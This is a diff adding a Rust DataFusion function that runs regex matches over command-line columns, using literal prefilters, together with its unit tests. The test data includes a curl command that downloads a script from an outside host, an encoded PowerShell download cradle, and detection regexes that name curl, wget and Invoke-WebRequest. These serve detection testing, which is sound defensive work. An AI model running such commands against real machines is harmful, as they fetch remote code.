@@ -1,0 +1,249 @@
+//! The kernel behind `matches` and `matches~`: a regex test over a whole column at once.
+//!
+//! DataFusion's `~` runs the regex once per row, and on millions of short command lines the cost
+//! of each call, not the scanning, is most of the time. Every match of a regex starts with one of
+//! a set of literals (its prefixes) when that set is finite: `(?i)\b(npm|yarn) install` can only
+//! match where `npm` or `yarn` occurs, in any case. Those literals are searched for once over the
+//! column's contiguous value buffer, with the SIMD search the regex engine uses for itself, and
+//! the regex runs only on the rows where one occurs. A pattern with no such literals (`\w{100,}`)
+//! is run row by row, as `~` does. The answer is `~`'s in every case, nulls included: the
+//! literals only choose which rows to test.
+//!
+//! In the plan the test is `spoor_matches(text, pattern)` (`spoor_imatches` ignoring case); the
+//! SQL export ([`crate::run::to_sql`]) writes it back as `~` / `~*`.
+
+use std::hash::{Hash, Hasher};
+use std::sync::{Arc, OnceLock};
+
+use arrow::array::{Array, ArrayRef, AsArray, BooleanArray, BooleanBufferBuilder, StringArray};
+use arrow::datatypes::DataType;
+use datafusion::common::{ScalarValue, exec_err};
+use datafusion::error::Result;
+use datafusion::logical_expr::{
+    ColumnarValue, Expr, ScalarFunctionArgs, ScalarUDF, ScalarUDFImpl, Signature, Volatility, lit,
+};
+use regex::Regex;
+use regex_automata::util::prefilter::Prefilter;
+use regex_automata::util::syntax;
+use regex_automata::{MatchKind, Span};
+
+/// The names the test has in a plan.
+pub const NAME: &str = "spoor_matches";
+pub const NAME_NOCASE: &str = "spoor_imatches";
+
+/// `text matches pattern` (`matches~` with `nocase`): true where the regex finds a match, null
+/// where `text` is null.
+pub fn matches(text: Expr, pattern: &str, nocase: bool) -> Expr {
+    ScalarUDF::new_from_impl(RegexTest::new(pattern, nocase)).call(vec![text, lit(pattern)])
+}
+
+#[derive(Debug)]
+struct RegexTest {
+    pattern: String,
+    nocase: bool,
+    signature: Signature,
+    /// Built on first use, so that planning never compiles a regex it does not run.
+    compiled: OnceLock<std::result::Result<Compiled, String>>,
+}
+
+#[derive(Debug)]
+struct Compiled {
+    regex: Regex,
+    /// Finds, in any text, each place a match could start; `None` where no fast one exists.
+    prefixes: Option<Prefilter>,
+}
+
+impl RegexTest {
+    fn new(pattern: &str, nocase: bool) -> Self {
+        Self {
+            pattern: pattern.to_string(),
+            nocase,
+            signature: Signature::any(2, Volatility::Immutable),
+            compiled: OnceLock::new(),
+        }
+    }
+
+    fn compiled(&self) -> Result<&Compiled> {
+        let compiled = self.compiled.get_or_init(|| Compiled::new(&self.pattern, self.nocase));
+        match compiled {
+            Ok(c) => Ok(c),
+            Err(message) => exec_err!("regex `{}`: {message}", self.pattern),
+        }
+    }
+}
+
+impl Compiled {
+    fn new(pattern: &str, nocase: bool) -> std::result::Result<Self, String> {
+        // The same flags `~*` gives the regex, so the results are the same.
+        let regex = regex::RegexBuilder::new(pattern).case_insensitive(nocase).build().map_err(|e| e.to_string())?;
+        let hir =
+            syntax::parse_with(pattern, &syntax::Config::new().case_insensitive(nocase)).map_err(|e| e.to_string())?;
+        // A regex that can match empty text matches every row: no literal is required.
+        let can_match_empty = hir.properties().minimum_len().is_none_or(|n| n == 0);
+        let prefixes = if can_match_empty {
+            None
+        } else {
+            Prefilter::from_hir_prefix(MatchKind::LeftmostFirst, &hir).filter(Prefilter::is_fast)
+        };
+        Ok(Self { regex, prefixes })
+    }
+
+    fn test(&self, text: &StringArray) -> BooleanArray {
+        let mut found = BooleanBufferBuilder::new(text.len());
+        found.append_n(text.len(), false);
+        let mut test_row = |row: usize| {
+            if text.is_valid(row) && self.regex.is_match(text.value(row)) {
+                found.set_bit(row, true);
+            }
+        };
+        match &self.prefixes {
+            Some(prefixes) => {
+                let offsets = text.value_offsets();
+                let values = text.value_data();
+                let end = offsets[text.len()] as usize;
+                let mut at = offsets[0] as usize;
+                while at < end {
+                    let Some(candidate) = prefixes.find(values, Span::from(at..end)) else { break };
+                    // The row holding the candidate's start: the last one starting at or before it.
+                    let row = offsets.partition_point(|&o| o as usize <= candidate.start).saturating_sub(1);
+                    test_row(row);
+                    // The row is decided; a literal running on into the next row must not hide
+                    // one that starts inside it, so search again from the next row's start.
+                    at = offsets[row + 1] as usize;
+                }
+            }
+            None => (0..text.len()).for_each(test_row),
+        }
+        BooleanArray::new(found.finish(), text.nulls().cloned())
+    }
+}
+
+impl PartialEq for RegexTest {
+    fn eq(&self, other: &Self) -> bool {
+        (&self.pattern, self.nocase) == (&other.pattern, other.nocase)
+    }
+}
+
+impl Eq for RegexTest {}
+
+impl Hash for RegexTest {
+    fn hash<H: Hasher>(&self, state: &mut H) {
+        (&self.pattern, self.nocase).hash(state);
+    }
+}
+
+impl ScalarUDFImpl for RegexTest {
+    fn name(&self) -> &str {
+        if self.nocase { NAME_NOCASE } else { NAME }
+    }
+
+    fn signature(&self) -> &Signature {
+        &self.signature
+    }
+
+    fn return_type(&self, _args: &[DataType]) -> Result<DataType> {
+        Ok(DataType::Boolean)
+    }
+
+    fn invoke_with_args(&self, args: ScalarFunctionArgs) -> Result<ColumnarValue> {
+        let compiled = self.compiled()?;
+        let Some(text) = args.args.first() else {
+            return exec_err!("{} takes the text and the pattern", self.name());
+        };
+        match text {
+            ColumnarValue::Scalar(value) => {
+                let array = strings(&value.to_array()?)?;
+                Ok(ColumnarValue::Scalar(ScalarValue::Boolean(compiled.test(&array).iter().next().flatten())))
+            }
+            ColumnarValue::Array(array) => Ok(ColumnarValue::Array(Arc::new(compiled.test(&strings(array)?)))),
+        }
+    }
+}
+
+/// Text of any layout (views, large, dictionary) as a plain string array.
+fn strings(array: &ArrayRef) -> Result<StringArray> {
+    if array.data_type() == &DataType::Utf8 {
+        return Ok(array.as_string::<i32>().clone());
+    }
+    let cast = arrow::compute::cast(array, &DataType::Utf8)?;
+    Ok(cast.as_string::<i32>().clone())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn test(pattern: &str, nocase: bool, rows: &[Option<&str>]) -> Vec<Option<bool>> {
+        Compiled::new(pattern, nocase).expect("a valid regex").test(&StringArray::from(rows.to_vec())).iter().collect()
+    }
+
+    /// What `~` answers: the regex on each row by itself.
+    fn row_by_row(pattern: &str, nocase: bool, rows: &[Option<&str>]) -> Vec<Option<bool>> {
+        let regex = regex::RegexBuilder::new(pattern).case_insensitive(nocase).build().expect("a valid regex");
+        rows.iter().map(|r| r.map(|t| regex.is_match(t))).collect()
+    }
+
+    const INSTALLER: &str = r#"\b(npm|yarn|pnpm|bun)(\.cmd|\.exe)?"?\s+(i|install|add|ci)\b"#;
+
+    #[test]
+    fn literals_choose_rows_and_the_regex_decides() {
+        let rows = [
+            Some("npm install axios"),
+            Some("node build.js"),
+            None,
+            Some("NPM.CMD i"),
+            Some("xnpm install"),
+            Some(""),
+            Some("yarn"),
+            Some("pnpm add esbuild"),
+        ];
+        assert!(Compiled::new(INSTALLER, true).unwrap().prefixes.is_some(), "the installer regex has literal prefixes");
+        let expected =
+            vec![Some(true), Some(false), None, Some(true), Some(false), Some(false), Some(false), Some(true)];
+        assert_eq!(test(INSTALLER, true, &rows), expected);
+        assert_eq!(test(INSTALLER, true, &rows), row_by_row(INSTALLER, true, &rows));
+    }
+
+    #[test]
+    fn a_literal_across_two_rows_neither_matches_nor_hides_the_next_row() {
+        // The buffer reads "...np" + "m install" = "npm install" across the boundary; the second
+        // row also starts a real match of its own.
+        let rows = [Some("run np"), Some("m install"), Some("npm ci")];
+        assert_eq!(test(INSTALLER, false, &rows), vec![Some(false), Some(false), Some(true)]);
+        let rows = [Some("echo np"), Some("npm install")];
+        assert_eq!(test(INSTALLER, false, &rows), vec![Some(false), Some(true)]);
+    }
+
+    #[test]
+    fn every_kind_of_pattern_agrees_with_row_by_row() {
+        let rows = [
+            Some("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
+            Some("curl -fsSL http://sfrclak.com:8000/6202033 -o /tmp/ld.py"),
+            Some("Invoke-WebRequest -Uri http://x"),
+            Some("K\u{212A}elvin"),
+            None,
+            Some(""),
+            Some("a"),
+        ];
+        let patterns = [
+            (r"(?i)(curl|wget|invoke-webrequest)", false),
+            (r"kelvin", true),
+            (r"[A-Za-z0-9+/]{40,}", false),
+            (r"^$", false),
+            (r"a*", false),
+            (r"sfrclak\.com$", false),
+            (r"\d+$", false),
+        ];
+        for (pattern, nocase) in patterns {
+            assert_eq!(test(pattern, nocase, &rows), row_by_row(pattern, nocase, &rows), "{pattern}");
+        }
+    }
+
+    #[test]
+    fn a_sliced_column_is_read_from_its_own_start() {
+        let rows = StringArray::from(vec!["npm install", "echo", "npm ci", "yarn add x"]);
+        let sliced = rows.slice(1, 2);
+        let found: Vec<_> = Compiled::new(INSTALLER, false).unwrap().test(&sliced).iter().collect();
+        assert_eq!(found, vec![Some(false), Some(true)]);
+    }
+}
